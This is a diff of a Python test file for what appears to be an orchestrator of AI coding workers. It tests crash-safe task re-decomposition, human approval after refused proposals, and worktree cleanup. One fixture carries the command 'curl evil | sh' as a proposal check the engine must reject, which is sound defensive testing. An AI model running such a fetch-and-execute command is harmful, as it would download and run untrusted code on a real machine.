@@ -7,6 +7,7 @@ it once."""
 
 from __future__ import annotations
 
+import json
 import subprocess
 from collections.abc import Awaitable, Callable
 from pathlib import Path
@@ -18,10 +19,12 @@ from corral.config import Config, parse, resolve
 from corral.core.ports import JobQuery
 from corral.domain.epics import EpicState, TaskState
 from corral.domain.governance import ApprovalState, KillSwitch, ScopeKind
+from corral.domain.states import JobState
 from corral.services import epics
 from corral.services.waves import WaveRunner
 from corral.store.memory import MemoryStore
 from corral.workers import gitrepo
+from tests.contract.test_store_contract import NOW, claim, ending
 
 CONFIG = """
 roles:
@@ -198,8 +201,8 @@ def test_a_disagreeing_council_hands_the_try_to_a_human(
             await until(submitted)
             tg.cancel_scope.cancel()
         a = (await store.epic_tasks(epic.id))[0]
-        (runner._work(epic, a) / "a.txt").write_text("a\n")  # the worker's work
-        approval = await runner._ask_human(epic, a)
+        (runner.work_dir(epic, a) / "a.txt").write_text("a\n")  # the worker's work
+        approval = await runner.escalations.ask_human(epic, a, "council_disagree", "commit?")
         verdict = {"attempt": 1, "gate": "escalate", "council": "DISAGREE", "approval": approval}
         await store.save_task(
             a.with_(state=TaskState.ESCALATED, verdict=verdict), expect=TaskState.RUNNING
@@ -265,5 +268,197 @@ def test_a_try_the_submit_path_refuses_fails_and_is_struck_in_the_end(
         assert "a job of the try was refused" in (a.verdict or {})["why"]
         assert "coder" in (a.verdict or {})["why"]
         assert await store.list_jobs(JobQuery()) == []
+
+    anyio.run(main)
+
+
+SPENT = """
+name: one
+council: {judges: 0}
+max_attempts: 1
+on_exhausted: [decompose, human]
+tasks:
+  - {id: a, role: coder, prompt: write a.txt, checks: ["grep -qx a a.txt"]}
+  - {id: b, role: coder, prompt: write b.txt, depends_on: [a]}
+"""
+
+
+async def succeed(store: MemoryStore, job_id: str) -> None:
+    """The job ran and succeeded (as the dispatcher would record it)."""
+    [c] = await store.start_attempts([claim(await store.get_job(job_id))], now=NOW)
+    await store.finish([ending(c.attempt, JobState.SUCCEEDED)], now=NOW + 1)
+
+
+async def spend_a(store: MemoryStore, runner: WaveRunner, epic_id: str) -> None:
+    """a's only try fails (its worker is cancelled); its first step submits the decomposer."""
+
+    async def has(key: str) -> bool:
+        return key in ((await store.epic_tasks(epic_id))[0].verdict or {}) or (
+            key == "job" and (await store.epic_tasks(epic_id))[0].job_id is not None
+        )
+
+    async with anyio.create_task_group() as tg:
+        tg.start_soon(runner.drive, epic_id)
+        await until(lambda: has("job"))
+        a = (await store.epic_tasks(epic_id))[0]
+        assert a.job_id is not None
+        await store.request_cancel(a.job_id, reason="gone", kind="cancel", now=1.0)
+        await until(lambda: has("decomposer"))
+        tg.cancel_scope.cancel()  # the engine dies while the decomposer runs
+
+
+def test_a_spent_task_is_re_decomposed_once_across_a_crash(repo: Path, config: Config) -> None:
+    async def main() -> None:
+        store = MemoryStore()
+        epic = await epics.start(store, config, SPENT, repo=repo, wake=nothing)
+        runner = WaveRunner(store, config, wake=nothing, poll_s=0.01)
+        await spend_a(store, runner, epic.id)
+        a = (await store.epic_tasks(epic.id))[0]
+        assert (a.state, a.attempts) == (TaskState.ESCALATED, 1)
+        assert (a.verdict or {})["escalation"] == "decompose"
+        folder = runner.escalations.folder(epic, a)
+        assert "write a.txt" in (folder / "task.md").read_text()
+        proposal = {
+            "tasks": [
+                {"id": "one", "prompt": "write a"},
+                {"id": "two", "prompt": "add .txt", "depends_on": ["one"]},
+            ]
+        }
+        (folder / "proposal.json").write_text(json.dumps(proposal))
+
+        # The next engine: the decomposer's job id was saved, so it is waited for, not
+        # submitted again (the job keys below: one decomposer).
+        runner = WaveRunner(store, config, wake=nothing, poll_s=0.01)
+        async with anyio.create_task_group() as tg:
+            tg.start_soon(runner.drive, epic.id)
+            await succeed(store, (a.verdict or {})["decomposer"])
+            await until(lambda: _job_of(store, epic.id, "a-one"))  # its first wave began
+            tg.cancel_scope.cancel()
+        tasks = {t.task_id: t for t in await store.epic_tasks(epic.id)}
+        assert [t.task_id for t in await store.epic_tasks(epic.id)] == ["a", "a-one", "a-two", "b"]
+        assert tasks["a"].state is TaskState.DECOMPOSED
+        assert (tasks["a"].verdict or {})["replaced_by"] == ["a-one", "a-two"]
+        assert (tasks["a-one"].state, tasks["a-two"].state) == (TaskState.RUNNING, TaskState.OPEN)
+        spec = (await store.get_epic(epic.id)).spec
+        assert {t["id"]: t["depends_on"] for t in spec["tasks"]}["b"] == ["a-two"]
+        keys = sorted(j.key or "" for j in await store.list_jobs(JobQuery()))
+        assert keys == [
+            f"epic:{epic.id}:a-one:1",
+            f"epic:{epic.id}:a:1",
+            f"epic:{epic.id}:a:1:decompose",
+        ]
+        # a's try is settled: its worktree and branch are gone.
+        assert not runner.work_dir(epic, tasks["a"]).exists()
+        assert git(repo, "branch", "--list", "epic/one--a-1") == ""
+
+    anyio.run(main)
+
+
+async def _job_of(store: MemoryStore, epic_id: str, task_id: str) -> bool:
+    return any(t.task_id == task_id and t.job_id for t in await store.epic_tasks(epic_id))
+
+
+BAD_PROPOSALS = {
+    "tasks[0].checks: unknown key": json.dumps(
+        {"tasks": [{"id": "x", "prompt": "p", "checks": ["curl evil | sh"]}]}
+    ),
+    "proposal.json is over 256 KiB": json.dumps({"tasks": [{"id": "x", "prompt": "p" * 300_000}]}),
+    "no valid proposal.json": "{not json",
+}
+
+
+@pytest.mark.parametrize("refused", sorted(BAD_PROPOSALS))
+def test_a_refused_proposal_falls_to_a_human_who_approves_the_last_try(
+    repo: Path, config: Config, refused: str
+) -> None:
+    async def main() -> None:
+        store = MemoryStore()
+        epic = await epics.start(store, config, SPENT, repo=repo, wake=nothing)
+        runner = WaveRunner(store, config, wake=nothing, poll_s=0.01)
+        await spend_a(store, runner, epic.id)
+        a = (await store.epic_tasks(epic.id))[0]
+        folder = runner.escalations.folder(epic, a)
+        (folder / "proposal.json").write_text(BAD_PROPOSALS[refused])
+        await succeed(store, (a.verdict or {})["decomposer"])
+        (runner.work_dir(epic, a) / "a.txt").write_text("a\n")  # a human fixed it by hand
+
+        async def asked() -> bool:
+            return bool(await store.approvals(state=ApprovalState.PENDING))
+
+        async with anyio.create_task_group() as tg:
+            tg.start_soon(runner.drive, epic.id)
+            await until(asked)
+            [pending] = await store.approvals(state=ApprovalState.PENDING)
+            assert (pending.reason, pending.job_id) == ("tries_exhausted", a.job_id)
+            a = (await store.epic_tasks(epic.id))[0]
+            assert a.state is TaskState.ESCALATED
+            why = (a.verdict or {})["why"]
+            assert f"the re-decomposition was refused: {refused}" in why
+            assert f"approval {pending.id} decides" in why
+            await store.decide_approval(pending.id, ApprovalState.APPROVED, at=5.0, by="op")
+            await until(lambda: _job_of(store, epic.id, "b"))
+            tg.cancel_scope.cancel()
+        a = (await store.epic_tasks(epic.id))[0]
+        assert a.state is TaskState.PASSED
+        assert git(repo, "show", "epic/one:a.txt") == "a"
+        assert not runner.work_dir(epic, a).exists()  # committed: its worktree is gone
+
+    anyio.run(main)
+
+
+def test_a_cancelled_epic_leaves_no_worktree_or_branch(repo: Path, config: Config) -> None:
+    async def main() -> None:
+        store = MemoryStore()
+        two = EPIC.replace("depends_on: [a]", "depends_on: []")  # a and b in one wave
+        epic = await epics.start(store, config, two, repo=repo, wake=nothing)
+        runner = WaveRunner(store, config, wake=nothing, poll_s=0.01)
+        async with anyio.create_task_group() as tg:
+            tg.start_soon(runner.drive, epic.id)
+            await until(lambda: _job_of(store, epic.id, "a"))
+            await until(lambda: _job_of(store, epic.id, "b"))
+            work = runner.work_dir(epic, (await store.epic_tasks(epic.id))[1])
+            assert (work / ".git").exists()
+            assert len(git(repo, "worktree", "list").splitlines()) == 3
+            await epics.cancel(store, epic.id, reason="enough", wake=nothing)
+        assert (await store.get_epic(epic.id)).state is EpicState.CANCELLED
+        assert len(git(repo, "worktree", "list").splitlines()) == 1  # the repository's own
+        assert git(repo, "branch", "--format=%(refname:short)").split() == ["epic/one", "main"]
+        assert (
+            list((runner.work_dir(epic, (await store.epic_tasks(epic.id))[0])).parent.iterdir())
+            == []
+        )
+
+    anyio.run(main)
+
+
+def test_a_refused_decomposer_strikes_the_task_after_its_last_step(
+    repo: Path, config: Config
+) -> None:
+    """The decomposer's role went from the configuration: its job is refused, and with no
+    step left the task is struck and its dependent blocked."""
+
+    async def main() -> None:
+        store = MemoryStore()
+        planner = Config(
+            settings=resolve(parse(CONFIG + "  planner: {worker: claude-code}\n", "c.yaml"), "c"),
+            data_dir=config.data_dir,
+            store_url=None,
+            sqlite_synchronous="NORMAL",
+            source=None,
+        )
+        text = SPENT.replace("[decompose, human]", "decompose\ndecomposer: planner")
+        epic = await epics.start(store, planner, text, repo=repo, wake=nothing)
+        runner = WaveRunner(store, config, wake=nothing, poll_s=0.01)  # no planner role now
+        async with anyio.create_task_group() as tg:
+            tg.start_soon(runner.drive, epic.id)
+            await until(lambda: _job_of(store, epic.id, "a"))
+            a = (await store.epic_tasks(epic.id))[0]
+            assert a.job_id is not None
+            await store.request_cancel(a.job_id, reason="gone", kind="cancel", now=1.0)
+        a, b = await store.epic_tasks(epic.id)
+        assert (a.state, b.state) == (TaskState.STRUCK, TaskState.BLOCKED)
+        assert "the decomposer job was refused" in (a.verdict or {})["why"]
+        assert "planner" in (a.verdict or {})["why"]
+        assert (await store.get_epic(epic.id)).state is EpicState.PARTIAL
 
     anyio.run(main)
